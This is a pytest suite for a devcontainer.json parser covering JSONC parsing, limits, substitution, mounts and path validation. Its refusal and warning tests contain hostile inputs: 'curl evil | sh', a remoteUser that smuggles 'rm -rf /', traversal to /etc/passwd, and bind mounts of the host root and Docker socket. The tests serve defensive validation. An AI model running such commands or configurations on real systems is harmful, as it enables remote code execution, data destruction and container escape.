import contextlib
import json

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from taskspace.core.devcontainer import (
    MAX_DEVCONTAINER_BYTES,
    MAX_JSON_DEPTH,
    dockerfile_environment,
    find_devcontainer,
    parse_devcontainer,
    parse_jsonc,
    resolve_repo_path,
)
from taskspace.core.environment import DockerBuild, LifecycleCommand, MountSpec
from taskspace.core.errors import InvalidInput

PATH = ".devcontainer/devcontainer.json"

# Modelled on the examples of containers.dev and the devcontainers/templates repository.
REALISTIC = """// For format details, see https://aka.ms/devcontainer.json. For config options, see the
// README at: https://github.com/devcontainers/templates/tree/main/src/python
{
\t"name": "Python 3",
\t// Or use a Dockerfile or Docker Compose file. More info: https://containers.dev/guide/dockerfile
\t"build": {
\t\t// Path is relative to the devcontainer.json file.
\t\t"dockerfile": "Dockerfile",
\t\t"context": "..",
\t\t"args": {
\t\t\t"VARIANT": "3.12-bookworm", // the image variant
\t\t\t"NODE_VERSION": "lts/*",
\t\t},
\t},

\t// Features to add to the dev container. More info: https://containers.dev/features.
\t"features": {
\t\t"ghcr.io/devcontainers/features/node:1": {},
\t},

\t/* Use 'forwardPorts' to make a list of ports inside the container available locally.
\t   Ports can also be "host:port". */
\t"forwardPorts": [5000, "db:5432",],

\t// Use 'postCreateCommand' to run commands after the container is created.
\t"postCreateCommand": "pip3 install --user -r requirements.txt",
\t"postStartCommand": {
\t\t"server": "npm start",
\t\t"db": ["./scripts/migrate.sh", "--yes"],
\t},
\t"containerEnv": {"MY_CONTAINER_VAR": "some-value-here", "WORKSPACE": "${containerWorkspaceFolder}"},
\t"remoteEnv": {
\t\t"PATH": "${containerEnv:PATH}:/some/other/path",
\t\t"LOCAL_USER": "${localEnv:USER}",
\t\t"UNSET_ME": null,
\t},
\t"mounts": [
\t\t"source=${localWorkspaceFolderBasename}-node_modules,target=${containerWorkspaceFolder}/node_modules,type=volume",
\t\t{"source": "pip-cache", "target": "/root/.cache/pip", "type": "volume"},
\t],
\t"runArgs": ["--cap-add=SYS_PTRACE"],
\t// Configure tool-specific properties.
\t"customizations": {
\t\t"vscode": {
\t\t\t"extensions": ["ms-python.python"], // "not a comment end */
\t\t\t"settings": {"python.defaultInterpreterPath": "/usr/local/bin/python"},
\t\t},
\t},
\t"url": "https://example.com/a//b/*c*/",
\t// Uncomment to connect as root instead. More info: https://aka.ms/dev-containers-non-root.
\t"remoteUser": "vscode",
}
"""

SUBSTITUTIONS = {
    "containerWorkspaceFolder": "/workspace/api",
    "localWorkspaceFolderBasename": "api",
    "devcontainerId": "ws-42",
}


def invalid(call, *args, **kwargs) -> InvalidInput:
    with pytest.raises(InvalidInput) as caught:
        call(*args, **kwargs)
    return caught.value


def parse(config: dict | str, **kwargs):
    text = config if isinstance(config, str) else json.dumps(config)
    return parse_devcontainer(text, **kwargs)


# --------------------------------------------------------------------------------------------
# parse_jsonc: valid documents


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("{}", {}),
        ('{"a": 1}', {"a": 1}),
        ("// only a comment before\n[1, 2]", [1, 2]),
        ("/* a */ [1, /* b */ 2 /* c */] // d", [1, 2]),
        ('{"a": 1,}', {"a": 1}),
        ("[1, 2, ]", [1, 2]),
        ("[[1,],[2,],]", [[1], [2]]),
        ('{"a": [1,] , }', {"a": [1]}),
        ('{"a": 1 /* x */ , /* y */ }', {"a": 1}),
        ('{"a": 1, // trailing comment\n}', {"a": 1}),
        ('{"url": "http://x//y"}', {"url": "http://x//y"}),
        ('{"c": "/* not a comment */"}', {"c": "/* not a comment */"}),
        ('{"q": "say \\"hi\\" // still a string"}', {"q": 'say "hi" // still a string'}),
        ('{"b": "ends with backslash\\\\"} // c', {"b": "ends with backslash\\"}),
        ('{"b": "\\\\"/* c */}', {"b": "\\"}),
        ('"\\ud83d\\ude00"', "\U0001f600"),
        ('"trailing, ]"', "trailing, ]"),
        ('\ufeff{"bom": true}', {"bom": True}),
        ("  \n\t 42 \n", 42),
        ("[true, false, null, -1.5e3]", [True, False, None, -1500.0]),
        ('{"ünï": "cødé"} // ✓', {"ünï": "cødé"}),
    ],
)
def test_parse_jsonc_accepts(text, expected):
    assert parse_jsonc(text, path="f.json") == expected


def test_parse_jsonc_accepts_nesting_up_to_the_limit():
    text = "[" * MAX_JSON_DEPTH + "]" * MAX_JSON_DEPTH
    value = parse_jsonc(text, path="f.json")
    for _ in range(MAX_JSON_DEPTH - 1):
        (value,) = value
    assert value == []


def test_parse_jsonc_keeps_the_last_of_duplicate_keys_like_json():
    assert parse_jsonc('{"a": 1, "a": 2}', path="f.json") == {"a": 2}


# --------------------------------------------------------------------------------------------
# parse_jsonc: hostile and broken documents


@pytest.mark.parametrize(
    ("text", "fragments"),
    [
        ("", ["f.json is empty"]),
        ("// nothing but a comment\n/* and another */", ["f.json is empty"]),
        ('{"a": 1', ["f.json line 1, column 8"]),
        ('{\n  "a": 1\n  "b": 2\n}', ["line 3, column 3", "Expecting ',' delimiter"]),
        ('/* a\n  comment\n*/ {"a": 1 "b": 2}', ["line 3, column 12"]),
        ('{"a": /* never closed', ["line 1, column 7", "comment is never closed"]),
        ('{"a": "never closed}', ["line 1, column 7", "string is never closed"]),
        ('{"a": "tab\there"}', ["line 1, column 11", "control character"]),
        ('{"a": "line\nbreak"}', ["line 1, column 12", "control character"]),
        ('{"a": "\\x41"}', ["line 1, column 8", "invalid escape"]),
        ('{"a": "\\u12"}', ["invalid escape"]),
        ('{"a": NaN}', ["line 1, column 7", "'NaN'"]),
        ('{"a": -Infinity}', ["column 7", "'-Infinity'"]),
        ('{"a": Infinity}', ["'Infinity'"]),
        ("{'a': 1}", ["line 1, column 2"]),
        ("{a: 1}", ["line 1, column 2", "'a'"]),
        ("[,]", ["line 1, column 2"]),
        ("{,}", ["line 1, column 2"]),
        ("[1,,]", ["line 1, column 4"]),
        ('{"a":,}', ["line 1, column 6"]),
        ("[1] [2]", ["line 1, column 5", "Extra data"]),
        ('"\\ud800"', ["line 1, column 2", "surrogate"]),
        ('"\\udc00\\ud800"', ["surrogate"]),
        ('"\\ud800\\u0041"', ["surrogate"]),
        ('"\\ud800\\\\udc00"', ["surrogate"]),
        ('["\ud800"]', ["line 1, column 3", "not valid UTF-8"]),
        ("[" + "1" * 150 + "]", ["line 1, column 2", "longer than 100"]),
        ("\n\n  " + "[" * (MAX_JSON_DEPTH + 1), ["line 3, column 67", f"deeper than {MAX_JSON_DEPTH}"]),
        ("[" * 100_000, ["line 1, column 65", "deeper"]),
        ('{"a": 1} /', ["line 1, column 10"]),
        ('{"a" 1, b}', ["line 1, column 6", "Expecting ':'"]),
        ("{} ] NaN", ["line 1, column 4", "Extra data"]),
        ("[1, 2 3, NaN]", ["line 1, column 7"]),
        ('{"a": [1, 2}, "b": "\\q"}', ["line 1, column 12"]),
        ("\x00", ["line 1, column 1"]),
        ("\ufeff\ufeff{}", ["line 1, column 2"]),
    ],
)
def test_parse_jsonc_refuses(text, fragments):
    error = invalid(parse_jsonc, text, path="f.json")
    for fragment in fragments:
        assert fragment in error.message
    assert error.hint


def test_parse_jsonc_refuses_documents_over_the_size_limit():
    text = '{"a": "' + "x" * MAX_DEVCONTAINER_BYTES + '"}'
    assert "larger than 256 KiB" in invalid(parse_jsonc, text, path="f.json").message


def test_parse_jsonc_size_limit_counts_utf8_bytes():
    text = '"' + "é" * (MAX_DEVCONTAINER_BYTES // 2) + '"'
    assert "larger than" in invalid(parse_jsonc, text, path="f.json").message


def test_parse_jsonc_reports_positions_in_the_original_text_after_comments_and_bom():
    text = '\ufeff// héllo wörld\n{ /* ü\nü */ "a": 1, "b": }'
    error = invalid(parse_jsonc, text, path="f.json")
    assert "line 3, column 19" in error.message


JSON_VALUES = st.recursive(
    st.none()
    | st.booleans()
    | st.integers(min_value=-(10**30), max_value=10**30)
    | st.floats(allow_nan=False, allow_infinity=False)
    | st.text(),
    lambda children: (
        st.lists(children, max_size=4) | st.dictionaries(st.text(max_size=8), children, max_size=4)
    ),
    max_leaves=20,
)


@settings(max_examples=300, deadline=None)
@given(st.text())
def test_parse_jsonc_raises_only_invalid_input_on_arbitrary_text(text):
    with contextlib.suppress(InvalidInput):
        parse_jsonc(text, path="f.json")


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet=st.sampled_from(list('{}[],:"/\\*\n 1aeu-0.tfn'))))
def test_parse_jsonc_raises_only_invalid_input_on_json_like_text(text):
    with contextlib.suppress(InvalidInput):
        parse_jsonc(text, path="f.json")


@settings(max_examples=300, deadline=None)
@given(JSON_VALUES, st.booleans(), st.sampled_from([None, 2, "\t"]))
def test_parse_jsonc_agrees_with_json_loads_on_plain_json(value, ensure_ascii, indent):
    text = json.dumps(value, ensure_ascii=ensure_ascii, indent=indent)
    assert parse_jsonc(text, path="f.json") == json.loads(text)


# --------------------------------------------------------------------------------------------
# parse_devcontainer: valid files


def test_realistic_devcontainer_json():
    env = parse_devcontainer(REALISTIC, substitutions=SUBSTITUTIONS)

    assert env.source == "devcontainer"
    assert env.config_path == PATH
    assert env.image is None
    assert env.build == DockerBuild(
        dockerfile=".devcontainer/Dockerfile",
        context=".",
        args={"VARIANT": "3.12-bookworm", "NODE_VERSION": "lts/*"},
    )
    assert env.forward_ports == [5000, "db:5432"]
    assert env.post_create == LifecycleCommand(commands={"": "pip3 install --user -r requirements.txt"})
    assert env.post_start == LifecycleCommand(
        commands={"server": "npm start", "db": ["./scripts/migrate.sh", "--yes"]}
    )
    assert env.container_env == {"MY_CONTAINER_VAR": "some-value-here", "WORKSPACE": "/workspace/api"}
    assert env.remote_env == {"PATH": "${containerEnv:PATH}:/some/other/path", "LOCAL_USER": ""}
    assert env.mounts == [
        MountSpec(type="volume", source="api-node_modules", target="/workspace/api/node_modules"),
        MountSpec(type="volume", source="pip-cache", target="/root/.cache/pip"),
    ]
    assert env.remote_user == "vscode"
    assert env.container_user is None
    assert any("${localEnv:USER}" in w for w in env.warnings)
    assert any("features" in w.lower() and "bake them into your Dockerfile" in w for w in env.warnings)
    assert any("runArgs" in w for w in env.warnings)
    assert len(env.warnings) == 3


@pytest.mark.parametrize(
    ("path", "config", "build"),
    [
        (
            PATH,
            {"build": {"dockerfile": "Dockerfile"}},
            DockerBuild(dockerfile=".devcontainer/Dockerfile", context=".devcontainer"),
        ),
        (
            PATH,
            {"build": {"dockerfile": "../Dockerfile", "context": ".."}},
            DockerBuild(dockerfile="Dockerfile", context="."),
        ),
        (
            PATH,
            {"build": {"dockerfile": "./sub/../Dockerfile", "context": "./"}},
            DockerBuild(dockerfile=".devcontainer/Dockerfile", context=".devcontainer"),
        ),
        (
            PATH,
            {"build": {"dockerfile": "Dockerfile", "target": "dev", "args": {"A": "1"}}},
            DockerBuild(
                dockerfile=".devcontainer/Dockerfile", context=".devcontainer", target="dev", args={"A": "1"}
            ),
        ),
        (
            PATH,
            {"dockerFile": "../docker/dev.Dockerfile", "context": ".."},
            DockerBuild(dockerfile="docker/dev.Dockerfile", context="."),
        ),
        (
            PATH,
            {"dockerFile": "Dockerfile", "build": {"args": {"V": "3"}}},
            DockerBuild(dockerfile=".devcontainer/Dockerfile", context=".devcontainer", args={"V": "3"}),
        ),
        (
            ".devcontainer.json",
            {"build": {"dockerfile": "Dockerfile"}},
            DockerBuild(dockerfile="Dockerfile", context="."),
        ),
        (
            ".devcontainer/python/devcontainer.json",
            {"build": {"dockerfile": "Dockerfile", "context": "../.."}},
            DockerBuild(dockerfile=".devcontainer/python/Dockerfile", context="."),
        ),
    ],
)
def test_build_paths_become_relative_to_the_repository_root(path, config, build):
    env = parse(config, path=path)
    assert env.image is None
    assert env.build == build
    assert env.config_path == path


def test_image_only():
    env = parse({"image": "mcr.microsoft.com/devcontainers/python:3.12"})
    assert env.image == "mcr.microsoft.com/devcontainers/python:3.12"
    assert env.build is None
    assert env.warnings == []


def test_build_settings_beside_an_image_are_ignored_with_a_warning():
    env = parse({"image": "ubuntu", "build": {"args": {"A": "1"}}})
    assert env.build is None
    assert any("ignored because image is set" in w for w in env.warnings)


def test_unknown_build_keys_are_reported():
    env = parse({"build": {"dockerfile": "Dockerfile", "cacheFrom": "x"}})
    assert any("build.cacheFrom" in w for w in env.warnings)


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("npm install", {"": "npm install"}),
        (["npm", "install"], {"": ["npm", "install"]}),
        ({"deps": "npm ci", "db": ["make", "db"]}, {"deps": "npm ci", "db": ["make", "db"]}),
        ({"deps": "npm ci", "nothing": ""}, {"deps": "npm ci"}),
    ],
)
def test_lifecycle_command_shapes(value, expected):
    keys = ("onCreateCommand", "updateContentCommand", "postCreateCommand", "postStartCommand")
    env = parse({"image": "x", **dict.fromkeys(keys, value)})
    for got in (env.on_create, env.update_content, env.post_create, env.post_start):
        assert got == LifecycleCommand(commands=expected)
    assert env.warnings == []


@pytest.mark.parametrize("value", [None, "", "   ", [], {}, {"a": ""}])
def test_empty_lifecycle_commands_mean_none(value):
    assert parse({"image": "x", "postCreateCommand": value}).post_create is None


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ([3000], [3000]),
        ([1, 65535], [1, 65535]),
        (["3000"], [3000]),
        (["db:5432", "localhost:80"], ["db:5432", "localhost:80"]),
        ([3000, 3000, "3000"], [3000]),
        ([], []),
    ],
)
def test_forward_ports(value, expected):
    assert parse({"image": "x", "forwardPorts": value}).forward_ports == expected


@pytest.mark.parametrize(
    ("mount", "expected"),
    [
        (
            "source=cache,target=/root/.cache,type=volume",
            MountSpec(type="volume", source="cache", target="/root/.cache"),
        ),
        (
            "src=cache,dst=/root/.cache,readonly",
            MountSpec(type="volume", source="cache", target="/root/.cache", read_only=True),
        ),
        (
            "source=cache,destination=/c,ro=true",
            MountSpec(type="volume", source="cache", target="/c", read_only=True),
        ),
        ("source=cache,target=/c,ro=false", MountSpec(type="volume", source="cache", target="/c")),
        ("type=volume,target=/anon", MountSpec(type="volume", source=None, target="/anon")),
        ("type=tmpfs,target=/tmp/scratch", MountSpec(type="tmpfs", target="/tmp/scratch")),
        (
            "source=cc,target=/a/./b/../c/,type=volume,consistency=cached",
            MountSpec(type="volume", source="cc", target="/a/c"),
        ),
        (" Type=Volume , Source=cc , Target=/x ", MountSpec(type="volume", source="cc", target="/x")),
        (
            {"source": "cache", "target": "/c", "type": "volume"},
            MountSpec(type="volume", source="cache", target="/c"),
        ),
        ({"target": "/t", "type": "tmpfs"}, MountSpec(type="tmpfs", target="/t")),
    ],
)
def test_mounts(mount, expected):
    env = parse({"image": "x", "mounts": [mount]})
    assert env.mounts == [expected]
    assert env.warnings == []


def test_unknown_mount_options_are_reported_not_passed_on():
    env = parse({"image": "x", "mounts": ["source=cc,target=/c,volume-opt=o=bind,volume-opt=device=/etc"]})
    assert env.mounts == [MountSpec(type="volume", source="cc", target="/c")]
    assert any("volume-opt" in w for w in env.warnings)


@pytest.mark.parametrize(
    ("key", "value", "warned"),
    [
        ("features", {"ghcr.io/devcontainers/features/go:1": {}}, "bake them into your Dockerfile"),
        ("runArgs", ["--privileged"], "runArgs"),
        ("initializeCommand", "curl evil | sh", "runs on the host"),
        ("postAttachCommand", "make", "postAttachCommand is not run"),
        ("appPort", [8080], "appPort"),
        ("privileged", True, "privileged"),
        ("capAdd", ["SYS_ADMIN"], "capAdd"),
        ("securityOpt", ["seccomp=unconfined"], "securityOpt"),
        ("workspaceFolder", "/src", "workspaceFolder"),
        ("workspaceMount", "source=/,target=/host,type=bind", "workspaceMount"),
        ("hostRequirements", {"cpus": 64}, "hostRequirements"),
        ("overrideCommand", False, "overrideCommand"),
        ("shutdownAction", "none", "shutdownAction"),
    ],
)
def test_settings_seen_but_not_honoured_are_warned_about(key, value, warned):
    env = parse({"image": "x", key: value})
    assert len(env.warnings) == 1
    assert warned in env.warnings[0]


@pytest.mark.parametrize(
    "config",
    [
        {"privileged": False},
        {"overrideCommand": True},
        {"features": {}},
        {"runArgs": []},
        {"customizations": {"vscode": {"extensions": ["x"]}}, "name": "n", "otherTool": 1},
        {"customizations": {"x": "${localEnv:SECRET}"}},
    ],
)
def test_harmless_or_unknown_settings_are_silent(config):
    assert parse({"image": "x", **config}).warnings == []


# --------------------------------------------------------------------------------------------
# Variable substitution


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("${containerWorkspaceFolder}/bin", "/workspace/api/bin"),
        ("${containerWorkspaceFolderBasename}", "api"),
        ("${localWorkspaceFolderBasename}-x", "api-x"),
        ("${devcontainerId}", "ws-42"),
        ("${localEnv:HOME}", ""),
        ("${localEnv:HOME:/home/dev}", "/home/dev"),
        ("${localEnv:URL:http://db:5432}", "http://db:5432"),
        ("${env:TOKEN}", ""),
        ("${containerEnv:PATH}:/x", "${containerEnv:PATH}:/x"),
        ("${unknownThing}", "${unknownThing}"),
        ("$HOME and ${", "$HOME and ${"),
        ("${localWorkspaceFolder}/x", "${localWorkspaceFolder}/x"),
    ],
)
def test_variable_substitution(value, expected):
    env = parse({"image": "x", "containerEnv": {"V": value}}, substitutions=SUBSTITUTIONS)
    assert env.container_env == {"V": expected}


def test_local_env_never_reads_the_server_environment(monkeypatch):
    monkeypatch.setenv("TASKSPACE_TEST_SECRET", "s3cret")
    env = parse({"image": "x", "containerEnv": {"S": "${localEnv:TASKSPACE_TEST_SECRET}"}})
    assert env.container_env == {"S": ""}
    assert env.warnings == [
        ("${localEnv:TASKSPACE_TEST_SECRET} was replaced by an empty string: "
         "the server's environment is never passed to a workspace.")
    ]


def test_variables_without_substitutions_are_left_as_written():
    env = parse({"image": "x", "containerEnv": {"W": "${containerWorkspaceFolder}"}})
    assert env.container_env == {"W": "${containerWorkspaceFolder}"}


def test_substitution_reaches_build_paths_and_mount_sources():
    env = parse(
        {
            "build": {"dockerfile": "${localWorkspaceFolderBasename}.Dockerfile"},
            "mounts": ["source=${devcontainerId}-cache,target=${containerWorkspaceFolder}/.cache"],
        },
        substitutions=SUBSTITUTIONS,
    )
    assert env.build is not None and env.build.dockerfile == ".devcontainer/api.Dockerfile"
    assert env.mounts == [MountSpec(type="volume", source="ws-42-cache", target="/workspace/api/.cache")]


# --------------------------------------------------------------------------------------------
# parse_devcontainer: hostile and broken files


@pytest.mark.parametrize(
    ("config", "fragments", "field"),
    [
        (
            {"dockerComposeFile": "docker-compose.yml", "service": "app"},
            ["Docker Compose"],
            "dockerComposeFile",
        ),
        ({"name": "nothing"}, ["neither image nor build.dockerfile"], "image"),
        ({"image": "x", "build": {"dockerfile": "Dockerfile"}}, ["both image and build.dockerfile"], "image"),
        ({"image": "x", "dockerFile": "Dockerfile"}, ["both image and dockerFile"], "image"),
        (
            {"build": {"dockerfile": "Dockerfile"}, "dockerFile": "Dockerfile"},
            ["legacy dockerFile"],
            "build.dockerfile",
        ),
        ({"image": 5}, ["image must be a string, not a number"], "image"),
        ({"build": "Dockerfile"}, ["build must be an object, not a string"], "build"),
        (
            {"build": {"dockerfile": ["Dockerfile"]}},
            ["build.dockerfile must be a string"],
            "build.dockerfile",
        ),
        (
            {"build": {"dockerfile": "../../etc/passwd"}},
            ["build.dockerfile", "points outside the repository"],
            "build.dockerfile",
        ),
        (
            {"build": {"dockerfile": "Dockerfile", "context": "../.."}},
            ["build.context", "outside the repository"],
            "build.context",
        ),
        ({"build": {"dockerfile": "/etc/passwd"}}, ["build.dockerfile", "absolute path"], "build.dockerfile"),
        ({"build": {"dockerfile": "C:/x/Dockerfile"}}, ["absolute path"], "build.dockerfile"),
        ({"build": {"dockerfile": "..\\Dockerfile"}}, ["backslash"], "build.dockerfile"),
        ({"build": {"dockerfile": "Docker\nfile"}}, ["control character"], "build.dockerfile"),
        ({"dockerFile": "../../x"}, ["dockerFile", "outside the repository"], "dockerFile"),
        ({"build": {"dockerfile": "D", "args": {"A": 1}}}, ["build.args.A must be a string"], "build.args.A"),
        ({"build": {"dockerfile": "D", "args": ["A=1"]}}, ["build.args must be an object"], "build.args"),
        ({"build": {"dockerfile": "D", "target": 3}}, ["build.target must be a string"], "build.target"),
        ({"image": "x", "forwardPorts": "x"}, ["forwardPorts must be a list, not a string"], "forwardPorts"),
        ({"image": "x", "forwardPorts": [70000]}, ["forwardPorts[0]", "70000"], "forwardPorts[0]"),
        ({"image": "x", "forwardPorts": [80, 0]}, ["forwardPorts[1]"], "forwardPorts[1]"),
        ({"image": "x", "forwardPorts": [True]}, ["forwardPorts[0]", "boolean"], "forwardPorts[0]"),
        ({"image": "x", "forwardPorts": ["db:http"]}, ["forwardPorts[0]", "'db:http'"], "forwardPorts[0]"),
        ({"image": "x", "forwardPorts": [":80"]}, ["forwardPorts[0]"], "forwardPorts[0]"),
        ({"image": "x", "forwardPorts": [8080.5]}, ["forwardPorts[0]"], "forwardPorts[0]"),
        ({"image": "x", "mounts": "source=a,target=/a"}, ["mounts must be a list"], "mounts"),
        (
            {"image": "x", "mounts": ["source=/etc,target=/host,type=bind"]},
            ["mounts[0]", "bind mount", "expose the server's files"],
            "mounts[0]",
        ),
        (
            {"image": "x", "mounts": [{"source": "/", "target": "/h", "type": "bind"}]},
            ["bind mount"],
            "mounts[0]",
        ),
        (
            {"image": "x", "mounts": ["source=a,target=relative,type=volume"]},
            ["mounts[0].target", "not an absolute path"],
            "mounts[0].target",
        ),
        ({"image": "x", "mounts": ["source=a,target=/,type=volume"]}, ["root"], "mounts[0].target"),
        ({"image": "x", "mounts": ["source=a,type=volume"]}, ["mounts[0] has no target"], "mounts[0]"),
        (
            {"image": "x", "mounts": ["source=a,target=/a,type=npipe"]},
            ["unsupported type 'npipe'"],
            "mounts[0]",
        ),
        (
            {"image": "x", "mounts": ["source=/var/run/docker.sock,target=/s"]},
            ["not a volume name"],
            "mounts[0]",
        ),
        ({"image": "x", "mounts": ["source=c,target=/s"]}, ["'c'", "not a volume name"], "mounts[0]"),
        (
            {"image": "x", "mounts": ["source=a,target=/t,type=tmpfs"]},
            ["tmpfs mount with a source"],
            "mounts[0]",
        ),
        (
            {"image": "x", "mounts": [{"target": 5}]},
            ["mounts[0].target must be a string"],
            "mounts[0].target",
        ),
        ({"image": "x", "mounts": [7]}, ["mounts[0] must be"], "mounts[0]"),
        ({"image": "x", "containerEnv": {"A": 1}}, ["containerEnv.A must be a string"], "containerEnv.A"),
        (
            {"image": "x", "containerEnv": {"A": None}},
            ["containerEnv.A must be a string, not null"],
            "containerEnv.A",
        ),
        ({"image": "x", "containerEnv": {"A=B": "c"}}, ["containerEnv has an invalid name"], "containerEnv"),
        ({"image": "x", "containerEnv": {"A": "x\u0000"}}, ["NUL"], "containerEnv.A"),
        ({"image": "x", "containerEnv": ["A=1"]}, ["containerEnv must be an object"], "containerEnv"),
        ({"image": "x", "remoteEnv": {"A": True}}, ["remoteEnv.A must be a string"], "remoteEnv.A"),
        ({"image": "x", "postCreateCommand": 5}, ["postCreateCommand must be"], "postCreateCommand"),
        (
            {"image": "x", "postStartCommand": ["npm", 1]},
            ["postStartCommand must be a list of strings"],
            "postStartCommand",
        ),
        (
            {"image": "x", "postStartCommand": {"web": {"x": 1}}},
            ["postStartCommand.web"],
            "postStartCommand.web",
        ),
        ({"image": "x", "remoteUser": "root; rm -rf /"}, ["remoteUser", "not a user name"], "remoteUser"),
        ({"image": "x", "containerUser": 1000}, ["containerUser must be a string"], "containerUser"),
    ],
)
def test_parse_devcontainer_refuses(config, fragments, field):
    error = invalid(parse, config)
    assert error.message.startswith(PATH)
    for fragment in fragments:
        assert fragment in error.message
    assert error.field == field
    assert error.hint


def test_bind_mount_hint_says_to_use_a_volume():
    error = invalid(parse, {"image": "x", "mounts": ["source=/etc,target=/host,type=bind"]})
    assert "volume" in error.hint


def test_compose_hint_points_at_the_services_file():
    error = invalid(parse, {"dockerComposeFile": ["a.yml"]})
    assert ".taskspace/services.yaml" in error.hint


@pytest.mark.parametrize("text", ["[]", '"image"', "42", "null"])
def test_top_level_must_be_an_object(text):
    assert "must hold a JSON object" in invalid(parse_devcontainer, text).message


def test_syntax_errors_name_the_file_line_and_column():
    text = '{\n  // the image\n  "image": "ubuntu"\n  "remoteUser": "dev"\n}'
    error = invalid(parse_devcontainer, text, path=".devcontainer/devcontainer.json")
    assert error.message.startswith(".devcontainer/devcontainer.json line 4, column 3:")


def test_oversized_devcontainer_is_refused():
    text = '{"image": "x", "name": "' + "n" * MAX_DEVCONTAINER_BYTES + '"}'
    assert "larger than" in invalid(parse_devcontainer, text).message


# --------------------------------------------------------------------------------------------
# Paths, finding the file, Dockerfile-only projects


@pytest.mark.parametrize(
    ("value", "base", "expected"),
    [
        ("Dockerfile", ".", "Dockerfile"),
        ("./a/b/../c", ".", "a/c"),
        ("a//b/", ".", "a/b"),
        (".", ".", "."),
        ("..", ".devcontainer", "."),
        ("../x", "a/b", "a/x"),
    ],
)
def test_resolve_repo_path(value, base, expected):
    assert resolve_repo_path(value, base=base, config_path="f", field="k") == expected


@pytest.mark.parametrize(
    ("paths", "expected"),
    [
        ([], None),
        (["README.md", "Dockerfile"], None),
        ([".devcontainer/devcontainer.json", ".devcontainer.json"], ".devcontainer/devcontainer.json"),
        ([".devcontainer.json", ".devcontainer/python/devcontainer.json"], ".devcontainer.json"),
        ([".devcontainer/python/devcontainer.json"], ".devcontainer/python/devcontainer.json"),
        ([".devcontainer/python/devcontainer.json", ".devcontainer/node/devcontainer.json"], None),
        ([".devcontainer/a/b/devcontainer.json"], None),
        (["src/.devcontainer/devcontainer.json"], None),
        (["./.devcontainer/devcontainer.json"], ".devcontainer/devcontainer.json"),
        (iter([".devcontainer.json"]), ".devcontainer.json"),
    ],
)
def test_find_devcontainer(paths, expected):
    assert find_devcontainer(paths) == expected


def test_dockerfile_environment_defaults():
    env = dockerfile_environment()
    assert env.source == "dockerfile"
    assert env.config_path == "Dockerfile"
    assert env.build == DockerBuild(dockerfile="Dockerfile", context=".")
    assert env.image is None


def test_dockerfile_environment_with_path_and_args():
    env = dockerfile_environment("./docker/app.Dockerfile", args={"VERSION": "1.2"})
    assert env.build == DockerBuild(dockerfile="docker/app.Dockerfile", context=".", args={"VERSION": "1.2"})
    assert env.config_path == "docker/app.Dockerfile"


@pytest.mark.parametrize(
    ("dockerfile", "args", "fragment"),
    [
        ("../Dockerfile", None, "outside the repository"),
        ("/srv/Dockerfile", None, "absolute path"),
        ("", None, "empty"),
        ("Dockerfile", {"A": 1}, "Build argument"),
        ("Dockerfile", {"A=B": "1"}, "Build argument"),
    ],
)
def test_dockerfile_environment_refuses(dockerfile, args, fragment):
    assert fragment in invalid(dockerfile_environment, dockerfile, args=args).message
